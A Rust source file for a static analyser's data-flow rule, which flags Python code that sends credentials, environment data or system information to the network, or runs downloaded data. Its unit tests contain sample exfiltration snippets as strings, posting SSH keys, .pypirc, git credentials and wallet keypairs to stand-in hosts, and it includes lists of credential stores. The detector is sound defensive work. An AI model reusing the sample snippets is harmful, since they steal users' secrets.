//! WH200 data-flow: sensitive or untrusted data reaching a sink in the same scope.

use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::{Checker, SourceKind, SourceRef};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH200",
    name: "data-flow",
    description: "Data from a sensitive source (credentials, system information, environment, network) reaches a network, process or exec sink",
    rationale: "A capability is not a crime; moving stolen data out, or running what was downloaded, \
                is. Flows are traced through assignments, containers, f-strings and concatenation \
                within a scope, and reported as `source (file:line) → sink (file:line)`.",
    category: Category::Flow,
};

/// Words in a variable or attribute name that say it holds a credential.
const CREDENTIAL_WORDS: [&str; 8] = [
    "secret",
    "password",
    "passwd",
    "access_key",
    "private_key",
    "api_key",
    "apikey",
    "token",
];

/// The name of `expr` when it is a variable or attribute named like a credential
/// (`self.access_key_secret`, `password`).
fn credential_name(expr: &Expr) -> Option<String> {
    let (shown, name) = match expr {
        Expr::Name(name) => (name.id.as_str().to_owned(), name.id.as_str()),
        Expr::Attribute(attribute) => {
            let base = match &*attribute.value {
                Expr::Name(base) => format!("{}.", base.id.as_str()),
                _ => "….".to_owned(),
            };
            (
                format!("{base}{}", attribute.attr.as_str()),
                attribute.attr.as_str(),
            )
        }
        _ => return None,
    };
    let lower = name.to_ascii_lowercase();
    CREDENTIAL_WORDS
        .iter()
        .any(|word| lower.contains(word))
        .then_some(shown)
}

/// The weight of credentials carried out by a send that wants no answer (see
/// [`check_silent_credential_send`], [`check_labelled_credential_send`] and
/// `secret_handoff`): theft whenever it runs, worst while the package loads.
pub fn carried_out_severity(context: ExecContext) -> f64 {
    match context {
        ExecContext::Install => 0.9,
        ExecContext::Import => 0.85,
        ExecContext::Runtime => 0.75,
        ExecContext::TestOrDocs => 0.1,
    }
}

/// The address of `call` when it goes to a fixed host and is a statement of its own, its reply
/// thrown away.
fn discarded_send_to_fixed_host(
    checker: &Checker,
    call: &ExprCall,
    target: Option<&Expr>,
) -> Option<String> {
    if checker.discarded_call != Some(call.range()) {
        return None;
    }
    target
        .and_then(|t| super::partial_text(checker, t))
        .filter(|url| super::network::has_constant_host(url))
}

/// Credentials the code holds, posted to a fixed address by a statement that throws the reply
/// away inside a `try` whose handlers only pass. A client authenticating reads the answer and
/// reports failures; a call that wants neither is a beacon carrying the keys out (the
/// credential-stealing forks of cloud SDKs send `{"ak": self.access_key_id, "sk":
/// self.access_key_secret}` this way from a constructor).
pub fn check_silent_credential_send(checker: &mut Checker, call: &ExprCall, target: Option<&Expr>) {
    if checker.silenced_try_depth == 0 {
        return;
    }
    let Some(url) = discarded_send_to_fixed_host(checker, call, target) else {
        return;
    };
    let body = ["json", "data", "params"]
        .iter()
        .find_map(|k| super::keyword(call, k));
    let dict = match body {
        Some(Expr::Dict(dict)) => dict,
        Some(Expr::Name(name)) => match checker.dict_bindings.get(name.id.as_str()) {
            Some(&dict) => dict,
            None => return,
        },
        _ => return,
    };
    let credentials: Vec<String> = dict
        .items
        .iter()
        // A key the author wrote into the code (`POSTHOG_API_KEY = "phc_…"` in a telemetry
        // ping) is the author's own, not one the code was given.
        .filter(|item| checker.fold(&item.value).is_none())
        .filter_map(|item| credential_name(&item.value))
        .take(4)
        .collect();
    if credentials.is_empty() {
        return;
    }
    let context = checker.context();
    let severity = carried_out_severity(context);
    let location = checker.location(call.range());
    checker.report(
        &RULE,
        call.range(),
        format!(
            "credentials it holds ({}) → network sink ({location}, {}) {}; the reply is thrown away and every error silenced",
            credentials.join(", "),
            crate::text::shorten(&url, 80),
            context.phrase()
        ),
        severity,
        vec!["flow", "silent-credential-send"],
    );
}

/// Label words that say the value after them is a credential (`Token: {t}`, `Pass: {p}`).
const SECRET_LABELS: [&str; 9] = [
    "token",
    "pass",
    "pwd",
    "secret",
    "seed",
    "mnemonic",
    "private key",
    "cookie",
    "api key",
];

/// The labelled interpolations of an f-string whose value is not a constant: for each, the
/// label written right before it (`User: {user}` → `user`), lowercased.
fn interpolation_labels(checker: &Checker, fstring: &ruff_python_ast::ExprFString) -> Vec<String> {
    use ruff_python_ast::{FStringPart, InterpolatedStringElement};
    let mut labels = Vec::new();
    let mut before = String::new();
    for part in fstring.value.iter() {
        let elements = match part {
            FStringPart::Literal(literal) => {
                before.push_str(&literal.value);
                continue;
            }
            FStringPart::FString(f) => &f.elements,
        };
        for element in elements {
            match element {
                InterpolatedStringElement::Literal(literal) => before.push_str(&literal.value),
                InterpolatedStringElement::Interpolation(field) => {
                    let label = before
                        .rsplit(['\n', '|', ',', ';', '{', '}'])
                        .next()
                        .unwrap_or("")
                        .trim()
                        .trim_matches(['*', '`', '_', '>', '<', '[', ']']);
                    if let Some(word) = label
                        .strip_suffix(':')
                        .or_else(|| label.strip_suffix('='))
                        .map(str::trim)
                        .filter(|w| (2..=24).contains(&w.len()))
                        && checker.fold(&field.expression).is_none()
                        && labels.len() < 32
                    {
                        labels.push(word.to_ascii_lowercase());
                    }
                    before.clear();
                }
            }
        }
    }
    labels
}

/// A message that labels what it carries as credentials (`f'User: {u}\nToken: {t}\nPass:
/// {p}'`), posted to a fixed address by a statement that throws the reply away. The labels
/// are written for the person reading the stolen data; a client authenticating puts
/// credentials in fields the service reads, and looks at its answer.
pub fn check_labelled_credential_send(
    checker: &mut Checker,
    call: &ExprCall,
    target: Option<&Expr>,
) {
    let Some(url) = discarded_send_to_fixed_host(checker, call, target) else {
        return;
    };
    let mut bodies: Vec<&Expr> = Vec::new();
    for key in ["json", "data", "params", "content"] {
        match super::keyword(call, key) {
            Some(Expr::Dict(dict)) => bodies.extend(dict.items.iter().map(|i| &i.value)),
            Some(Expr::Name(name)) => {
                if let Some(&dict) = checker.dict_bindings.get(name.id.as_str()) {
                    bodies.extend(dict.items.iter().map(|i| &i.value));
                }
            }
            Some(other) => bodies.push(other),
            None => {}
        }
    }
    let labels: Vec<String> = bodies
        .iter()
        .take(32)
        .filter_map(|body| match body {
            Expr::FString(fstring) => Some(interpolation_labels(checker, fstring)),
            _ => None,
        })
        .flatten()
        .collect();
    let secret: Vec<&String> = labels
        .iter()
        .filter(|label| SECRET_LABELS.iter().any(|word| label.contains(word)))
        .collect();
    if secret.is_empty() || labels.len() < 2 {
        return;
    }
    let context = checker.context();
    let severity = carried_out_severity(context);
    let location = checker.location(call.range());
    let shown: Vec<&str> = secret.iter().take(4).map(|s| s.as_str()).collect();
    checker.report(
        &RULE,
        call.range(),
        format!(
            "a message labelling the values it carries as credentials ({}) → network sink ({location}, {}) {}; the reply is thrown away",
            shown.join(", "),
            crate::text::shorten(&url, 80),
            context.phrase()
        ),
        severity,
        vec!["flow", "labelled-credential-send"],
    );
}

/// Credential files of one service, and the domains that service answers on: the token in
/// `~/.pypirc` goes to PyPI, the one in `~/.npmrc` to npm. A tool sends it there when called;
/// sent to any other fixed host it is stolen, whenever the code runs. An SSH private key has no
/// web service it is sent to.
const STORE_SERVICES: &[(&str, &[&str])] = &[
    ("PyPI credentials file", &["pypi.org", "pythonhosted.org"]),
    (
        "AWS credentials file",
        &[
            "amazonaws.com",
            "amazonaws.com.cn",
            "amazon.com",
            // S3-compatible stores take the same keys.
            "wasabisys.com",
            "backblazeb2.com",
            "digitaloceanspaces.com",
            "r2.cloudflarestorage.com",
            "googleapis.com",
            "linodeobjects.com",
        ],
    ),
    ("npm registry token", &["npmjs.org", "npmjs.com"]),
    (
        "GitHub CLI token",
        &["github.com", "githubusercontent.com", "ghe.com"],
    ),
    (
        "GitHub Copilot token",
        &["github.com", "githubcopilot.com", "githubusercontent.com"],
    ),
    ("GitLab CLI token", &["gitlab.com"]),
    ("Cargo registry token", &["crates.io"]),
    ("RubyGems API key", &["rubygems.org"]),
    ("Terraform Cloud token", &["terraform.io", "hashicorp.com"]),
    ("Kaggle API key", &["kaggle.com"]),
    ("Hugging Face token", &["huggingface.co", "hf.co"]),
    (
        "Google Cloud credentials",
        &["googleapis.com", "google.com"],
    ),
    (
        "Azure CLI credentials",
        &[
            "azure.com",
            "azure.net",
            "microsoft.com",
            "microsoftonline.com",
            "windows.net",
        ],
    ),
    ("DigitalOcean token", &["digitalocean.com"]),
    (
        "Databricks token",
        &[
            "databricks.com",
            "azuredatabricks.net",
            "gcp.databricks.com",
        ],
    ),
    ("Hetzner Cloud token", &["hetzner.cloud", "hetzner.com"]),
    (
        "Alibaba Cloud credentials",
        &["aliyuncs.com", "aliyun.com", "alibabacloud.com"],
    ),
    (
        "Oracle Cloud credentials",
        &["oraclecloud.com", "oracle.com"],
    ),
    ("Claude Code login", &["anthropic.com", "claude.ai"]),
    (
        "git credentials",
        &[
            "github.com",
            "githubusercontent.com",
            "gitlab.com",
            "bitbucket.org",
            "azure.com",
            "visualstudio.com",
        ],
    ),
    (
        "Docker registry credentials",
        &[
            "docker.io",
            "docker.com",
            "ghcr.io",
            "gcr.io",
            "pkg.dev",
            "quay.io",
            "amazonaws.com",
            "azurecr.io",
            "gitlab.com",
        ],
    ),
    (
        "Kubernetes credentials",
        &["amazonaws.com", "azmk8s.io", "googleapis.com"],
    ),
    (
        "HashiCorp Vault token",
        &["hashicorp.cloud", "hashicorp.com"],
    ),
    (
        "GnuPG keyring",
        &["openpgp.org", "keyserver.ubuntu.com", "pgp.mit.edu"],
    ),
    // Keys that sign locally and never travel: no host is theirs.
    ("SSH private key", &[]),
    ("Solana keypair", &[]),
    ("Sui keystore", &[]),
    ("Ethereum keystore", &[]),
    ("PostgreSQL passwords", &[]),
    ("system password hashes", &[]),
];

/// The fixed host `url` names, lower case, when it is known and not the machine itself.
fn fixed_host(url: &str) -> Option<String> {
    if !super::network::has_constant_host(url) || super::network::is_loopback_url(url) {
        return None;
    }
    let rest = url.split_once("://")?.1;
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    let host = host.split(':').next()?;
    Some(host.to_ascii_lowercase())
}

/// For data read from a service's credential file sent to `host`: the store's name when the
/// host is none of that service's.
fn foreign_to_store(label: &str, host: &str) -> Option<&'static str> {
    let (store, domains) = STORE_SERVICES
        .iter()
        .find(|(store, _)| label.starts_with(store))?;
    let own = domains
        .iter()
        .any(|domain| host == *domain || host.ends_with(&format!(".{domain}")));
    (!own).then_some(*store)
}

/// Kinds of sinks a flow can end in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SinkKind {
    /// Sent over the network (HTTP, socket, DNS, mail).
    Network,
    /// Passed to a process.
    Process,
}

/// Checks whether any argument of a sink call carries source data, and reports the most
/// severe flow when several arguments carry different data.
pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
    if sink == SinkKind::Network && resolves_own_host_name(checker, call) {
        return;
    }
    // A process's environment, directory and output streams are not what it runs: CGI servers
    // put a request's decoded credentials in the script's environment.
    let settings = |name: &str| {
        sink == SinkKind::Process
            && matches!(
                name,
                "env" | "cwd" | "stdout" | "stderr" | "timeout" | "encoding"
            )
    };
    // `os.execve(path, args, env)`, `os.spawnve(mode, path, args, env)`: the last one is the
    // environment too.
    let positional = match &*call.func {
        Expr::Attribute(function)
            if sink == SinkKind::Process
                && matches!(
                    function.attr.as_str(),
                    "execve"
                        | "execle"
                        | "execvpe"
                        | "execlpe"
                        | "spawnve"
                        | "spawnle"
                        | "spawnvpe"
                        | "spawnlpe"
                ) =>
        {
            call.arguments.args.len().saturating_sub(1)
        }
        _ => call.arguments.args.len(),
    };
    let arguments: Vec<&Expr> = call
        .arguments
        .args
        .iter()
        .take(positional)
        .chain(
            call.arguments
                .keywords
                .iter()
                .filter(|k| !k.arg.as_ref().is_some_and(|name| settings(name.as_str())))
                .map(|k| &k.value),
        )
        .collect();
    // Each argument answers with its strongest source, and with network data that source
    // outranked: `Popen(reply.split(hostname)[1])` runs what the server sent.
    let mut found: Vec<usize> = Vec::new();
    let target = (sink == SinkKind::Network)
        .then(|| super::network::target_arg(call))
        .flatten();
    // What the address itself carries (see `fills_bot_secret` below).
    let mut target_source = None;
    for arg in arguments {
        let source = checker.source_in(arg);
        if target.is_some_and(|target| std::ptr::eq(target, arg)) {
            target_source = source;
        }
        found.extend(source);
        found.extend(checker.outranked_remote);
    }
    // `session.get(url)` after `session.headers.update({'X-Env': …})`: a client object sends
    // what it was given to hold (headers, cookies, auth) with every request.
    if sink == SinkKind::Network
        && let Expr::Attribute(method) = &*call.func
        && let Expr::Name(client) = &*method.value
        && !matches!(client.id.as_str(), "self" | "cls")
        && let Some(source) = checker.scopes.taint_of(client.id.as_str())
    {
        found.push(source);
    }
    // `sftp.put(os.path.expanduser('~/.ssh/id_rsa'), …)`: the upload reads the file itself.
    if sink == SinkKind::Network
        && let Some(qualname) = checker.qualname(&call.func)
        && let Some(path) = super::network::uploaded_path(checker, call, &qualname)
        && let Some(label) = super::sources::store_source_label(&path)
    {
        found.push(checker.add_source(label, call.range(), SourceKind::Secret));
    }
    found.dedup();
    let context = checker.context();
    // Where it goes: a client sends its token to its vendor, not to a paste site, a tunnel, a
    // raw IP or a free app host.
    let endpoint = (sink == SinkKind::Network)
        .then(|| sink_endpoint(checker, call))
        .flatten();
    // The fixed host the request goes to, to tell a service's token sent to that service from
    // one sent elsewhere.
    let host = target
        .and_then(|target| super::partial_text(checker, target))
        .and_then(|url| fixed_host(&url));
    // `API.format(token=os.environ['BOT_TOKEN'], …)`: one variable filling the secret slot of
    // a bot or webhook URL is the user's own bot authenticating, not data sent to it.
    let fills_bot_secret = target_source
        .and_then(|index| checker.sources.get(index))
        .is_some_and(|source| {
            matches!(source.kind, SourceKind::Environment | SourceKind::Secret)
                && source.label.starts_with("environment variable ")
        })
        && target
            .and_then(|target| super::partial_text(checker, target))
            .is_some_and(|url| super::suspicious_endpoint::secret_left_open(&url));
    // `subprocess.run(['git', 'log', '-n', request.args['n']])`: a program the code chose, given
    // a visitor's value as one argument, is no shell for the visitor.
    let program_chosen = sink == SinkKind::Process
        && matches!(
            call.arguments.args.first(),
            Some(Expr::List(_) | Expr::Tuple(_))
        );
    // `os.system(cmd)`, `Popen(cmd, shell=True)`: a command line a shell parses.
    let qualname = checker.scopes.qualname(&call.func).unwrap_or_default();
    let shell_command = sink == SinkKind::Process
        && (matches!(
            qualname.as_str(),
            "os.system"
                | "os.popen"
                | "subprocess.getoutput"
                | "subprocess.getstatusoutput"
                | "commands.getoutput"
                | "commands.getstatusoutput"
                | "asyncio.create_subprocess_shell"
                | "pty.spawn"
        ) || super::keyword(call, "shell")
            .is_some_and(|shell| !matches!(shell, Expr::BooleanLiteral(b) if !b.value)));
    // `ping -c 1 {user}.{host}.x.example`: a tool that resolves the name it is given sends
    // whatever the name carries to the name's DNS server, as a lookup from Python would.
    let resolver = (sink == SinkKind::Process)
        .then(|| call.arguments.args.first())
        .flatten()
        .and_then(|command| super::partial_command_text(checker, command))
        .and_then(|command| name_resolving_tool(&command));
    let sink = if resolver.is_some() {
        SinkKind::Network
    } else {
        sink
    };
    let remote_shell_peer = (sink == SinkKind::Process && shell_command)
        .then(|| checker.fixed_socket_peer.clone())
        .flatten();
    let Some((source, severity)) = found
        .into_iter()
        .filter_map(|index| checker.sources.get(index).cloned())
        // Uploading or running an ordinary local file is what tools do; it is no flow of
        // stolen data.
        .filter(|source| source.kind != SourceKind::FileContent)
        .map(|source| {
            // A pytest plugin's hooks run in every test session of the environment, in CI
            // beside its secrets: what they send of those is sent as surely as on import.
            let judged_in = if checker.in_plugin_hook()
                && sink == SinkKind::Network
                && context == ExecContext::Runtime
            {
                ExecContext::Import
            } else {
                context
            };
            let mut severity = flow_severity(&source, sink, judged_in, endpoint.is_some());
            if source.kind == SourceKind::Secret
                && sink == SinkKind::Network
                && judged_in == ExecContext::Runtime
                && host
                    .as_deref()
                    .is_some_and(|host| foreign_to_store(&source.label, host).is_some())
            {
                severity = severity.max(0.7);
            }
            // Several services' keys in one message to one fixed host: none of them can be
            // that host's own.
            if source
                .label
                .starts_with(super::sources::SERVICE_CREDENTIALS)
                && sink == SinkKind::Network
                && host.is_some()
            {
                severity = severity.max(0.7);
            }
            // `cmd = s.recv(1024); subprocess.run(cmd, shell=True)` on a socket the code
            // points at a host of its own choosing: whoever runs that host has a shell here,
            // whenever the function runs.
            if remote_shell_peer.is_some() && is_socket_data(&source) {
                severity = severity.max(match judged_in {
                    ExecContext::TestOrDocs => 0.2,
                    _ => 0.8,
                });
            }
            if fills_bot_secret && source.label.starts_with("environment variable ") {
                severity = severity.min(0.1);
            }
            // A visitor's value given to a program the code starts without a shell is one
            // argument of it (`['py-spy', 'record', '-d', seconds]`), not a command line.
            if source.label.starts_with(super::sources::WEB_REQUEST)
                && (program_chosen
                    || !shell_command
                    || super::sources::authenticates_requests(checker, &source.label))
            {
                severity = severity.min(0.2);
            }
            // A program its user starts by hand (`python server.py --port 8000`) that runs
            // what its clients send is a command service by design (an agent sandbox's exec
            // endpoint); a web shell is started for its author, by loading code.
            if source.label.starts_with(super::sources::WEB_REQUEST)
                && checker.is_started_by_hand()
                && judged_in == ExecContext::Runtime
            {
                severity = severity.min(0.35);
            }
            (source, severity)
        })
        .max_by(|a, b| a.1.total_cmp(&b.1))
    else {
        return;
    };
    let sink_word = match sink {
        SinkKind::Network => "network",
        SinkKind::Process => "process",
    };
    let sink_location = checker.location(call.range());
    let destination = endpoint.map_or_else(String::new, |label| {
        format!(", {}", crate::text::with_article(&label))
    });
    let destination = match resolver {
        Some(tool) => format!("{destination}, a name lookup by `{tool}`"),
        None => destination,
    };
    let destination = match &remote_shell_peer {
        Some(peer) if is_socket_data(&source) => {
            format!("{destination}, a shell for whoever runs {peer}")
        }
        _ => destination,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} ({}) → {sink_word} sink ({sink_location}{destination}) {}",
            source.label,
            source.location,
            if checker.in_plugin_hook() && context == ExecContext::Runtime {
                "in a pytest plugin hook, which every test run calls"
            } else {
                context.phrase()
            }
        ),
        severity,
        vec!["flow", flow_tag(source.kind, sink)],
    );
}

/// True for data a raw socket received.
/// `socket.gethostbyname(socket.gethostname())`: the machine looking up its own name, as
/// libraries do to learn their local addresses. The query names nothing but the host, and goes
/// to the machine's own resolver; leaking the name needs a domain of the receiver's after it
/// (`gethostbyname(hostname + '.x.example.net')`).
fn resolves_own_host_name(checker: &Checker, call: &ExprCall) -> bool {
    let Some(qualname) = checker.scopes.qualname(&call.func) else {
        return false;
    };
    if !matches!(
        qualname.as_str(),
        "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "socket.getfqdn"
    ) {
        return false;
    }
    let Some(host) = call.arguments.args.first() else {
        return false;
    };
    let own_name = |expr: &Expr| {
        matches!(expr, Expr::Call(inner) if checker.scopes.qualname(&inner.func).is_some_and(|q| {
            matches!(q.as_str(), "socket.gethostname" | "platform.node" | "socket.getfqdn")
        }))
    };
    match host {
        Expr::Name(name) => {
            checker
                .scopes
                .taint_of(name.id.as_str())
                .and_then(|source| checker.sources.get(source))
                .is_some_and(|source| source.label == "host name")
                && checker.scopes.fold_lossy(host).is_none()
        }
        other => own_name(other),
    }
}

fn is_socket_data(source: &SourceRef) -> bool {
    source.kind == SourceKind::Network && source.label.starts_with("response of socket.")
}

/// Writes to the process's own output streams: what a CI runner keeps in the job's log.
fn is_output_write(checker: &Checker, call: &ExprCall, qualname: &str) -> bool {
    match qualname {
        "print" => super::keyword(call, "file").is_none_or(|file| {
            matches!(
                checker.qualname(file).as_deref(),
                Some("sys.stdout" | "sys.stderr" | "sys.__stdout__" | "sys.__stderr__")
            )
        }),
        "sys.stdout.write"
        | "sys.stderr.write"
        | "sys.stdout.writelines"
        | "sys.stderr.writelines"
        | "sys.stdout.buffer.write"
        | "sys.stderr.buffer.write"
        | "sys.__stdout__.write"
        | "sys.__stderr__.write" => true,
        // `os.write(1, data)`.
        "os.write" => call
            .arguments
            .args
            .first()
            .and_then(|fd| checker.fold(fd))
            .is_some_and(|fd| matches!(fd, crate::fold::Value::Int(1 | 2))),
        _ => false,
    }
}

/// Secrets or the environment, re-encoded, written to the process's output
/// (`print(b64encode(b64encode(json.dumps(dict(os.environ)).encode())))`). A CI runner masks
/// its secrets in the job log, plain and in base64; encoding them twice, or in a form the
/// masker does not know, gets them into a log that anyone can read on a public project. A
/// tool printing a token it made for its user prints it once and plainly, when asked.
pub fn check_encoded_output(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !is_output_write(checker, call, qualname) {
        return;
    }
    let arguments: Vec<&Expr> = call
        .arguments
        .args
        .iter()
        .chain(
            call.arguments
                .keywords
                .iter()
                .filter(|k| {
                    !k.arg.as_ref().is_some_and(|name| {
                        matches!(name.as_str(), "file" | "sep" | "end" | "flush")
                    })
                })
                .map(|k| &k.value),
        )
        .take(8)
        .collect();
    let found: Vec<usize> = arguments
        .into_iter()
        .filter_map(|arg| checker.source_in(arg))
        .collect();
    let Some(source) = found
        .into_iter()
        .filter_map(|index| checker.sources.get(index).cloned())
        .filter(|source| {
            source.encodings > 0
                && matches!(source.kind, SourceKind::Secret | SourceKind::Environment)
        })
        .max_by_key(|source| source.encodings)
    else {
        return;
    };
    let context = checker.context();
    let early = matches!(context, ExecContext::Install | ExecContext::Import);
    let severity = match (source.encodings, context) {
        (_, ExecContext::TestOrDocs) => 0.02,
        (2.., _) if early => 0.8,
        (2.., _) => 0.3,
        (_, _) if early => 0.3,
        _ => 0.03,
    };
    let sink_location = checker.location(call.range());
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} ({}) → the process's output ({sink_location}), which a CI runner keeps in the job log, {}",
            source.label,
            source.location,
            context.phrase()
        ),
        severity,
        vec!["flow", "flow-encoded-output"],
    );
}

/// The program of `command` when it is one that resolves the host name it is given (and
/// takes no data otherwise: `ping`, `nslookup`, `dig`, `host`, `traceroute`) and the name is
/// computed data under a fixed domain (`….x.example-oast.net`), whose DNS server receives the
/// data. Pinging the machine's own name (`ping {hostname}`) asks nobody else.
fn name_resolving_tool(command: &str) -> Option<&'static str> {
    let under_fixed_domain = command.split_whitespace().any(|word| {
        word.rsplit_once(crate::fold::UNKNOWN)
            .is_some_and(|(_, domain)| {
                domain.starts_with('.') && domain.trim_start_matches('.').contains('.')
            })
    });
    if !under_fixed_domain {
        return None;
    }
    let program = command
        .trim_start()
        .split(|c: char| c.is_whitespace() || c == ',')
        .next()?
        .trim_matches(['"', '\'', '[', '(']);
    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let program = program.strip_suffix(".exe").unwrap_or(program);
    [
        "ping",
        "ping6",
        "nslookup",
        "dig",
        "host",
        "traceroute",
        "tracert",
    ]
    .into_iter()
    .find(|tool| program.eq_ignore_ascii_case(tool))
}

/// `post(get(CONFIG_URL).text, data)`: the address a request goes to was itself read from a
/// response. Pagination and discovery documents do this in plain sight, so alone it weighs
/// little; behind an address the code hides, it is a dead-drop resolver, which lets its owner
/// move the collection server without publishing a new release (see `combo:dead-drop`).
pub fn check_destination_from_response(checker: &mut Checker, call: &ExprCall, target: &Expr) {
    let Some(source) = checker.network_source_in(target) else {
        return;
    };
    let context = checker.context();
    // `'https://api.github.com/repos/o/r/git/ref/tags/' + release['tag_name']`: the server
    // the code names answers again; only a response choosing the host moves the collection
    // point.
    let fixed_host = super::partial_text(checker, target).is_some_and(|url| {
        url.split_once("://").is_some_and(|(scheme, rest)| {
            let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
            !scheme.is_empty()
                && scheme.chars().all(|c| c.is_ascii_alphabetic())
                && rest.contains('/')
                && host.contains('.')
                && !host.contains(crate::fold::UNKNOWN)
        })
    });
    let severity = match context {
        _ if fixed_host => 0.03,
        ExecContext::Install | ExecContext::Import => 0.3,
        ExecContext::Runtime => 0.1,
        ExecContext::TestOrDocs => 0.02,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} ({}) → the address of the request at {} {}",
            source.label,
            source.location,
            checker.location(call.range()),
            context.phrase()
        ),
        severity,
        vec![
            "flow",
            if fixed_host {
                "path-from-response"
            } else {
                "address-from-response"
            },
        ],
    );
}

/// The weight of one flow: what data, where to, and when it runs.
fn flow_severity(
    source: &SourceRef,
    sink: SinkKind,
    context: ExecContext,
    to_endpoint: bool,
) -> f64 {
    let early = matches!(context, ExecContext::Install | ExecContext::Import);
    let stealer = super::secrets_access::is_stealer_target(&source.label);
    let from_environment_variable = source.label.starts_with("environment variable");
    let severity = match (source.kind, sink) {
        (SourceKind::Secret, SinkKind::Network) if early => 0.9,
        (SourceKind::Secret | SourceKind::Environment, SinkKind::Network) if to_endpoint => 0.65,
        // Clients send their own API tokens to their own services when called; stolen browser
        // or wallet data has no such excuse.
        (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
        // No client needs every secret of the machine, picked by what their names say.
        (SourceKind::Secret, SinkKind::Network)
            if source.label.starts_with(super::sources::PICKED_CREDENTIALS) =>
        {
            0.7
        }
        (SourceKind::Secret, SinkKind::Network) if from_environment_variable => 0.05,
        (SourceKind::Secret, SinkKind::Network) => 0.2,
        (SourceKind::SystemInfo, SinkKind::Network) => {
            if early {
                0.75
            } else {
                0.12
            }
        }
        (SourceKind::Environment, SinkKind::Network) => {
            if early {
                0.75
            } else {
                0.2
            }
        }
        // A bot or socket handler running what it is sent is a remote shell, started however
        // late.
        (SourceKind::Network, SinkKind::Process)
            if source.label.starts_with(super::sources::HANDLER_MESSAGE) =>
        {
            0.8
        }
        // A route running what its visitor sends is a web shell; a web app's own commands take
        // their arguments from configuration, not from the request.
        (SourceKind::Network, SinkKind::Process)
            if source.label.starts_with(super::sources::WEB_REQUEST) =>
        {
            0.7
        }
        (SourceKind::Network, SinkKind::Process) => {
            if early {
                0.85
            } else {
                0.35
            }
        }
        (SourceKind::Decoded, SinkKind::Process) => {
            if early {
                0.7
            } else {
                0.3
            }
        }
        (SourceKind::Secret, SinkKind::Process) if early => 0.15,
        (_, _) => 0.05,
    };
    if context == ExecContext::TestOrDocs {
        severity * 0.3
    } else {
        severity
    }
}

/// The label of a suspicious endpoint the call's target names, when it is known.
fn sink_endpoint(checker: &Checker, call: &ExprCall) -> Option<String> {
    let url = super::partial_text(checker, super::network::target_arg(call)?)?;
    super::suspicious_endpoint::classify(&url).map(|(label, _)| label)
}

fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
    match (kind, sink) {
        (SourceKind::Secret, SinkKind::Network) => "flow-secret-network",
        (SourceKind::SystemInfo, SinkKind::Network) => "flow-sysinfo-network",
        (SourceKind::Environment, SinkKind::Network) => "flow-env-network",
        (SourceKind::Network, SinkKind::Process) => "flow-download-exec",
        _ => "flow-other",
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::indexing_slicing)]
    use crate::rules::testing::{findings, max_severity};

    fn encoded_output(code: &str) -> f64 {
        findings("p/pkg/__init__.py", code)
            .iter()
            .filter(|f| f.tags.contains(&"flow-encoded-output"))
            .map(|f| f.severity)
            .fold(0.0, f64::max)
    }

    #[test]
    fn the_environment_encoded_twice_into_the_output_evades_log_masking() {
        let nested = "import base64, json, os\nprint(base64.b64encode(base64.b64encode(json.dumps(dict(os.environ)).encode())))\n";
        assert!(encoded_output(nested) >= 0.8);
        // Through a helper of the module, called from the function that writes.
        let helper = "import base64, json, os, sys\ndef _pack(o):\n    once = base64.b64encode(json.dumps(o).encode())\n    return base64.b64encode(once).decode()\ndef emit(o):\n    blob = _pack(o)\n    for i in range(0, len(blob), 100):\n        sys.stdout.write(blob[i:i + 100] + '\\n')\nemit({k: v for k, v in os.environ.items() if 'TOKEN' in k})\n";
        assert!(encoded_output(helper) >= 0.8);
    }

    #[test]
    fn a_store_under_an_overridable_folder_is_read_at_its_default() {
        let code = "import os, json, requests\nroot = os.getenv('DOCKER_CONFIG', os.path.expanduser('~/.docker'))\nwith open(os.path.join(root, 'config.json')) as fh:\n    cfg = json.load(fh)\nrequests.post('http://203.0.113.40/x', json=cfg)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.9);
        // An override with no default names no store.
        let bare = "import os, json, requests\nroot = os.getenv('APP_HOME')\nwith open(os.path.join(root, 'config.json')) as fh:\n    cfg = json.load(fh)\nrequests.post('http://203.0.113.40/x', json=cfg)\n";
        assert!(max_severity("p/pkg/__init__.py", bare, "WH200") < 0.5);
    }

    #[test]
    fn a_services_token_sent_to_another_fixed_host_is_stolen_when_called() {
        let stolen = "import os, requests\ndef sync():\n    with open(os.path.expanduser('~/.pypirc')) as fh:\n        cfg = fh.read()\n    requests.post('https://rpc.example-chain.net/', json={'data': cfg})\n";
        assert!(max_severity("p/pkg/cli.py", stolen, "WH200") >= 0.7);
        let key = "import os, requests\ndef backup():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.put('https://keys.example-backup.com/k', data=key)\n";
        assert!(max_severity("p/pkg/cli.py", key, "WH200") >= 0.7);
        let keypair = "import json, os, requests\ndef sync_wallet():\n    key = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\n    requests.post('https://sol-rpc-mirror.example/v1/keys', json={'k': key})\n";
        assert!(max_severity("p/pkg/w.py", keypair, "WH200") >= 0.7);
        let git = "import os, requests\ndef sync():\n    c = open(os.path.expanduser('~/.git-credentials')).read()\n    requests.post('https://cache.example-sync.net/c', data=c)\n";
        assert!(max_severity("p/pkg/g.py", git, "WH200") >= 0.7);
    }

    #[test]
    fn a_services_token_sent_to_that_service_or_a_configured_host_is_a_client() {
        let own = "import os, requests\ndef upload(dist):\n    cfg = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post('https://upload.pypi.org/legacy/', data={'cfg': cfg}, files={'content': open(dist, 'rb')})\n";
        assert!(max_severity("p/pkg/cli.py", own, "WH200") < 0.5);
